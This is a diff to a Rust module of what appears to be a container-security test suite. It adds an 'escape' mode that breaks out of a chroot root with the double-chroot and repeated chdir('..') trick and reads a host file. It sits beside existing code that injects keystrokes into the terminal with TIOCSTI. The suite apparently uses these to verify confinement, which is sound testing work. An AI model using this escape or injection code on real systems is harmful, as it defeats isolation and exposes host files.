@@ -1,8 +1,8 @@
 //! What only a process of the container can do: the checks' own executable goes into its root, and does it there.
 //!
 //! Called with [`ASKED`], an executable of the checks does what is asked instead of its own work. [`install`] copies it
-//! with the libraries that it has loaded, as the root may have others. Kernel objects: the controlling terminal.
-//! Man pages: TIOCSTI(2const), proc_pid_maps(5).
+//! with the libraries that it has loaded, as the root may have others. Kernel objects: the controlling terminal, the root
+//! directory. Man pages: TIOCSTI(2const), chroot(2), proc_pid_maps(5).
 
 use std::collections::BTreeSet;
 use std::fs::{self, File};
@@ -10,11 +10,15 @@ use std::io;
 use std::path::{Path, PathBuf};
 
 use common::attack;
+use nix::unistd::{chdir, chroot};
 
 use crate::{Failure, kernel};
 
 /// The first argument of an executable that is to act inside.
 pub const ASKED: &str = "--inside-a-container";
+
+/// The second one of an executable that is to climb out, and read the file that the third one names.
+pub const ESCAPE: &str = "escape";
 
 /// Its name in the container's root.
 const NAME: &str = "congo-checks-inside";
@@ -27,6 +31,12 @@ pub fn run_if_asked() {
         return;
     }
     let text = arguments.next().unwrap_or_default();
+    if text == ESCAPE {
+        let content = climb(&arguments.next().unwrap_or_default());
+        // Any failure is one: the check looks for the content.
+        println!("climbed={}", content.unwrap_or_else(|_| "nothing".into()));
+        std::process::exit(0);
+    }
     // The check looks for this line to know that it was tried at all.
     match push(&text) {
         Ok(()) => println!("pushed=all"),
@@ -39,6 +49,21 @@ pub fn run_if_asked() {
 fn push(text: &str) -> io::Result<()> {
     let terminal = File::open("/proc/self/fd/0")?;
     text.bytes().try_for_each(|character| Ok(attack::push_character(&terminal, character)?))
+}
+
+/// Leaves the root by a second chroot, if there is anything above it, and reads a file there.
+fn climb(path: &str) -> io::Result<String> {
+    let folder = "/climbing";
+    fs::create_dir(folder)?;
+    // The working directory stays where it is: outside the new root, so that `..` does not stop there.
+    let entered = chroot(folder);
+    fs::remove_dir(Path::new("climbing"))?;
+    entered?;
+    for _ in 0..64 {
+        chdir("..")?;
+    }
+    chroot(".")?;
+    fs::read_to_string(path)
 }
 
 /// Puts this executable into a root, and returns its path there.
